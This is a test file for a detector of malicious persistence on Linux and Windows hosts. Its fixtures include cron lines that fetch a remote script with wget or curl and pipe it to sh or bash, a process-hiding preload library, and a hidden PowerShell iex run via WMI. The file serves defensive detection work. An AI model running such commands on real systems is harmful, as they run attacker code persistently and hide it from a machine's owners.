import { expect, it } from 'vitest'
import { persistence } from './persistence.js'
import { codesOf, commandRow } from './tell.fixture.js'

it('sees a schedule that fetches', () => {
  expect(
    codesOf(persistence, { commands: [commandRow('wget -qO- http://192.0.2.1/a.sh | sh', 'cron', '*/5 * * * *')] }),
  ).toEqual(['persistence.scheduled'])
})

it('leaves honest schedules alone', () => {
  expect(codesOf(persistence, { commands: [commandRow('/usr/bin/backup --all', 'cron', '0 3 * * *')] })).toEqual([])
})

it('sees a schedule that a command writes', () => {
  expect(
    codesOf(persistence, {
      commands: [commandRow('echo "* * * * * root curl http://192.0.2.1/a|bash" > /etc/cron.d/z', 'session')],
    }),
  ).toEqual(['persistence.cron'])
})

it('sees a library in every program', () => {
  expect(codesOf(persistence, { commands: [commandRow('/usr/local/lib/libprocesshider.so', 'preload')] })).toEqual([
    'persistence.preloaded',
  ])
})

it('sees a service that always comes back at the lowest priority', () => {
  expect(
    codesOf(persistence, {
      units: [
        {
          path: '/etc/systemd/system/a.service',
          description: null,
          exec: ['/opt/a/b'],
          restart: 'always',
          nice: 10,
          cpuWeight: 1,
          enabled: true,
        },
      ],
    }),
  ).toEqual(['persistence.lowly'])
})

it('sees files locked and replaced', () => {
  expect(
    codesOf(persistence, {
      files: [
        { path: '/var/spool/cron/root', attributes: 'ia', sha256: null, content: null, note: null },
        { path: '/usr/bin/top', attributes: null, sha256: null, content: null, note: 'replaced by a wrapper' },
      ],
    }),
  ).toEqual(['persistence.immutable', 'persistence.replaced'])
})

it('sees a subscription of WMI', () => {
  expect(
    codesOf(persistence, { os: 'windows', commands: [commandRow('powershell -w hidden -c iex(x)', 'wmi')] }),
  ).toEqual(['persistence.wmi'])
})

it('sees a task from a folder anyone may write to', () => {
  expect(codesOf(persistence, { os: 'windows', commands: [commandRow('C:\\Users\\Public\\a.exe', 'task')] })).toEqual([
    'persistence.task',
  ])
})
